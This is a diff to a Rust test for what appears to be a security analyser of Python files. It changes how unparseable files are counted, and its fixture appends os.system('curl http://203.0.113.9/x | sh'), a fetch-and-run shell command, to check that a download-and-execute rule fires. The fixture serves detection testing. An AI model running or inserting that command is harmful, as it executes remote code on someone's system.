@@ -154,24 +154,29 @@ fn a_text_too_large_to_fold_that_runs_is_a_problem() {
 
 #[test]
 fn files_that_do_not_parse_are_problems_and_analysed_all_the_same() {
-    for code in [
-        "print 'hello'\n",
-        "x = `1`\n",
-        "exec 'print 1' in {}\n",
-        "x = 0777\n",
-        "import {{ cookiecutter.name }}\n",
-        "def f(:\n",
+    for (code, problems) in [
+        // Python 2, read as that.
+        ("print 'hello'\n", 0),
+        ("exec 'print 1' in {}\n", 0),
+        ("x = 0777\n", 0),
+        ("x = `1`\n", 1),
+        ("import {{ cookiecutter.name }}\n", 1),
+        ("def f(:\n", 1),
     ] {
         let analysis = analyze(
             "demo/a.py",
             format!("{code}\nimport os\nos.system('curl http://203.0.113.9/x | sh')\n"),
         );
-        assert_eq!(analysis.problems().len(), 1, "{code}");
+        assert_eq!(analysis.problems().len(), problems, "{code}");
         assert!(
             severity(&analysis, "python-shell-download-run").is_some(),
             "{code}"
         );
     }
+    // What tests of parsers are made of.
+    let analysis = analyze("demo-1.0/tests/a.py", "def f(:\n");
+    assert_eq!(analysis.problems(), []);
+    assert!(severity(&analysis, "python-unparsed").is_some());
 }
 
 #[test]
